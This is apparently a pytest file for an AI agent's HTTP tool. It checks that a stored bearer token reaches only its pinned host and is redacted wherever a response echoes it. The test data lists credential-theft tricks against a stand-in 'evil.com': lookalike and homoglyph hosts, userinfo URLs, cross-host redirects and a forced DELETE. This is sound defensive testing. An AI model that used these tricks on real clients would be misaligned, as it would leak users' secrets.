"""Credentials of the web tools against servers on loopback: where they are attached, and every way to steal them."""

import asyncio
import ssl
from base64 import b64encode
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from sophon import Context, Services
from sophon.builtin_tools import http
from sophon.builtin_tools.http import http_request, http_send
from sophon.errors import ToolError
from sophon.security import KNOWN_SECRETS
from sophon.settings import Settings
from sophon.tools.http.client import HttpLimits, SafeHttpClient
from sophon.tools.http.ssrf_guard import SsrfGuard
from sophon.vault import CredentialVault
from tests.tables import table

TLS = Path(__file__).parents[1] / "tools" / "http" / "tls"
TOKEN = "sesame/open+1234="
HOST = "pinned.example.com"

pytestmark = pytest.mark.anyio


@dataclass
class Server:
    port: int = 0
    location: str = ""
    seen: list[dict[str, str]] = field(default_factory=list[dict[str, str]])
    echo: str = "ok"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode().splitlines()
        headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in head[1:-1])}
        await reader.readexactly(int(headers.get("content-length", "0")))
        self.seen.append(headers)
        if self.location and head[0].split()[1] == "/go":
            writer.write(f"HTTP/1.1 307 Go\r\nLocation: {self.location}\r\nContent-Length: 0\r\n\r\n".encode())
        else:
            sent = headers.get("authorization", "")
            body = self.echo.replace("$SENT", sent)
            text = f"HTTP/1.1 200 OK\r\nX-Echo: {sent}\r\nContent-Length: {len(body)}\r\n\r\n"
            writer.write(text.encode() + (b"" if head[0].startswith("HEAD") else body.encode()))
        writer.close()
        await asyncio.gather(writer.wait_closed(), return_exceptions=True)

    @property
    def tokens(self) -> list[str | None]:
        return [each.get("authorization") for each in self.seen]


@asynccontextmanager
async def serving(*, tls: bool = True) -> AsyncIterator[Server]:
    server, context = Server(), None
    if tls:
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(TLS / "server.pem")
    listening = await asyncio.start_server(server.serve, "127.0.0.1", 0, ssl=context)
    server.port = listening.sockets[0].getsockname()[1]
    async with listening:
        yield server


async def to_loopback(host: str) -> list[str]:
    return ["127.0.0.1"]


def turn(
    *hosts: str,
    principal: str = "anna",
    group: bool = False,
    limits: HttpLimits | None = None,
    other: dict[str, Any] | None = None,
    **values: object,
) -> Context:
    vault: dict[str, Any] = {
        "github": {"Secret": TOKEN, "Hosts": hosts, **values},
        **({"other": other} if other else {}),
    }
    settings = Settings.from_mapping({"Vault": vault, "Tools": {"AllowCidrs": ["127.0.0.1/32"]}})
    services = Services(settings=settings, vault=CredentialVault(settings.vault, {}))
    trusting = ssl.create_default_context(cafile=TLS / "authority.pem")
    trusting.check_hostname = False  # so that other names reach the server, as with a certificate of their own
    guard = SsrfGuard(to_loopback, allow_cidrs=["127.0.0.1/32"])
    http._CLIENTS[services.gateway] = SafeHttpClient(guard, tls=trusting, limits=limits)
    return services.turn("hello", principal=principal, group=group, session_id="s")


async def get(ctx: Context, url: str, **arguments: object) -> str:
    return str(await http_request.invoke({"url": url, **arguments}, ctx))


async def test_the_credential_is_attached_to_its_host() -> None:
    async with serving() as server:
        ctx = turn(f"{HOST}:{server.port}")
        await get(ctx, f"https://{HOST}:{server.port}/")
        await http_send.invoke({"url": f"https://{HOST}:{server.port}/", "body": "x"}, ctx)
    assert server.tokens == [f"Bearer {TOKEN}"] * 2


@table("host", [HOST.upper(), f"{HOST}.", "a.b.example.net"])
async def test_other_spellings_of_the_host_and_names_below_a_wildcard_are_meant(host: str) -> None:
    async with serving() as server:
        await get(turn(f"{HOST}:{server.port}", f"*.example.net:{server.port}"), f"https://{host}:{server.port}/")
    assert server.tokens == [f"Bearer {TOKEN}"]


@table(
    "host",
    [
        "other.example.com",
        "example.com",
        f"x.{HOST}",
        f"{HOST}.evil.com",
        f"x{HOST}",
        "рinned.example.com",
        "xn--inned-mye.example.com",
    ],
)
async def test_another_host_never_receives_the_credential(host: str) -> None:
    async with serving() as server:
        await get(turn(f"{HOST}:{server.port}"), f"https://{host}:{server.port}/")
    assert server.tokens == [None]


async def test_another_port_and_plain_http_never_receive_the_credential() -> None:
    async with serving() as server, serving(tls=False) as plain:
        await get(turn(HOST), f"https://{HOST}:{server.port}/")
        await get(turn(f"{HOST}:{plain.port}"), f"http://{HOST}:{plain.port}/")
    assert server.tokens == plain.tokens == [None]


@table("url", ["https://{host}@evil.com/", "https://evil.com:443@{host}/", "https://evil.com\\@{host}/"])
async def test_a_url_with_user_information_is_refused(url: str) -> None:
    with pytest.raises(ToolError, match="blocked"):
        await get(turn(HOST), url.format(host=HOST))


async def test_a_redirect_to_the_same_host_keeps_the_credential() -> None:
    async with serving() as server:
        server.location = "/there"
        await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/go")
    assert server.tokens == [f"Bearer {TOKEN}"] * 2


@table("target", ["https://evil.com:{port}/", "//{host}.evil.com:{port}/", "https://x.{host}:{port}/"])
async def test_a_redirect_to_another_host_loses_the_credential(target: str) -> None:
    async with serving() as server:
        server.location = target.format(host=HOST, port=server.port)
        await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/go")
    assert server.tokens == [f"Bearer {TOKEN}", None]


async def test_a_redirect_to_another_port_or_to_http_loses_the_credential() -> None:
    async with serving() as server, serving() as other, serving(tls=False) as plain:
        for location in (f"https://{HOST}:{other.port}/", f"http://{HOST}:{plain.port}/"):
            server.location = location
            await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/go")
    assert other.tokens == plain.tokens == [None]


async def test_another_server_cannot_choose_a_request_that_is_made_with_the_credential() -> None:
    async with serving() as server, serving() as evil:
        ctx = turn(f"{HOST}:{server.port}")
        evil.location = f"https://{HOST}:{server.port}/delete-everything"
        await http_send.invoke({"url": f"https://evil.com:{evil.port}/go", "method": "DELETE"}, ctx)
    assert server.tokens == [None]


async def test_a_redirect_there_and_back_stays_without_the_credential() -> None:
    async with serving() as server, serving() as evil:
        server.location, evil.location = f"https://evil.com:{evil.port}/go", f"https://{HOST}:{server.port}/x"
        await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/go")
    assert server.tokens == [f"Bearer {TOKEN}", None]
    assert evil.tokens == [None]


async def test_the_host_of_one_credential_cannot_choose_a_request_with_another() -> None:
    async with serving() as server:
        server.location = f"https://api.example.net:{server.port}/"
        other = {"Secret": "another-token-123", "Hosts": [f"api.example.net:{server.port}"]}
        await get(turn(f"{HOST}:{server.port}", other=other), f"https://{HOST}:{server.port}/go")
    assert server.tokens == [f"Bearer {TOKEN}", None]


@table(
    ("principal", "group", "users", "attached"),
    [
        ("anna", False, ["anna"], True),
        ("ben", False, ["anna"], False),
        ("anna", True, ["anna"], False),
        ("ben", True, ["group:s"], True),
    ],
)
async def test_a_credential_is_used_in_turns_of_its_users(
    principal: str, group: bool, users: list[str], attached: bool
) -> None:
    async with serving() as server:
        ctx = turn(f"{HOST}:{server.port}", principal=principal, group=group, Users=users)
        await get(ctx, f"https://{HOST}:{server.port}/")
    assert server.tokens == [f"Bearer {TOKEN}" if attached else None]


@table("name", ["Authorization", "X-Own-Key", "x-own-key", "x_own_key"])
async def test_a_header_of_the_model_with_that_name_is_refused_for_every_host(name: str) -> None:
    async with serving() as server:
        ctx = turn(f"{HOST}:{server.port}", Header="X-Own-Key")
        with pytest.raises(ToolError, match="must not be set"):
            await get(ctx, f"https://elsewhere.example.com:{server.port}/", headers={name: "mine"})
    assert not server.seen


ECHOES = [
    "$SENT",
    quote(TOKEN, safe=""),
    b64encode(f"Bearer {TOKEN}".encode()).decode(),
    '{"t": "sesame\\/open+1234="}',
]


@table("echo", ECHOES)
async def test_an_echo_of_the_credential_is_redacted(echo: str) -> None:
    async with serving() as server:
        server.echo = echo
        text = await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/")
    assert "[REDACTED]" in text
    assert TOKEN not in text
    assert echo not in text


async def test_an_echo_in_the_headers_is_redacted() -> None:
    async with serving() as server:
        text = await get(turn(f"{HOST}:{server.port}"), f"https://{HOST}:{server.port}/", method="HEAD")
    assert "x-echo: Bearer [REDACTED]" in text


async def test_an_echo_that_is_cut_at_the_limit_leaves_no_half_credential() -> None:
    async with serving() as server:
        server.echo = f"{'x' * 500}{TOKEN}"
        ctx = turn(f"{HOST}:{server.port}", limits=HttpLimits(max_bytes=512))
        text = await get(ctx, f"https://{HOST}:{server.port}/")
    assert "truncated" in text
    assert TOKEN[:4] not in text


async def test_an_echo_in_a_redirect_is_redacted() -> None:
    async with serving() as server:
        ctx = turn(f"{HOST}:{server.port}")
        server.location = f"https://evil.com:{server.port}/?t={TOKEN}"
        assert TOKEN not in await get(ctx, f"https://{HOST}:{server.port}/go")
        server.location = f"https://localhost/?t={TOKEN}"
        KNOWN_SECRETS.restore({})  # which every error is redacted by; it forgets the oldest of many
        with pytest.raises(ToolError) as caught:
            await get(ctx, f"https://{HOST}:{server.port}/go")
    assert TOKEN not in str(caught.value)


async def test_without_its_secret_a_request_to_the_host_fails_and_is_not_sent() -> None:
    async with serving() as server:
        ctx = turn(f"{HOST}:{server.port}", Secret={"$env": "NOBODY_SET_THIS"})
        with pytest.raises(ToolError, match="'github' of this host cannot be used"):
            await get(ctx, f"https://{HOST}:{server.port}/")
    assert not server.seen
